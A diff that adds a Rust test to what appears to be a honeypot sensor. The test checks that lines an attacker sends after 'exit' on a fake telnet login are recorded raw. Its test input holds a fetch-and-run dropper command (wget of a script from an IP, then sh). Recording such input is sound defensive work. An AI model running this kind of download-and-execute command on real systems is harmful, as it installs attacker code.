@@ -540,6 +540,32 @@ fn telnet_input_that_is_not_utf8_is_recorded_byte_exact() {
     );
 }
 
+/// Lines that arrive in the same read as `exit` are not lost: no shell reads them, so they go
+/// to rawInput as sent.
+#[test]
+fn lines_sent_with_exit_in_one_read_are_kept_raw() {
+    let [t] = ports();
+    let sensor = SensorProcess::start(&bin(), &plugin("t", "telnet", t, "telnet"));
+    let mut s = connect(t);
+    read_until(&mut s, b"login: ");
+    send(&mut s, b"root\r\n");
+    read_until(&mut s, b"Password: ");
+    send(&mut s, b"admin\r\n");
+    read_until(&mut s, b"# ");
+    send(&mut s, b"exit\r\nwget http://198.51.100.9/x.sh\r\nsh x.sh");
+    read_to_close(&mut s);
+    let (status, dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success());
+    let conn = db(&dir.path().join("sensor.sqlite"));
+    assert_eq!(
+        rows(&conn, "SELECT reason, bytes FROM rawInput ORDER BY ID"),
+        [[
+            "sent after the session ended (logout)",
+            "wget http://198.51.100.9/x.sh\\nsh x.sh"
+        ]]
+    );
+}
+
 #[test]
 fn a_last_line_without_newline_is_recorded_as_unterminated() {
     use std::net::Shutdown;
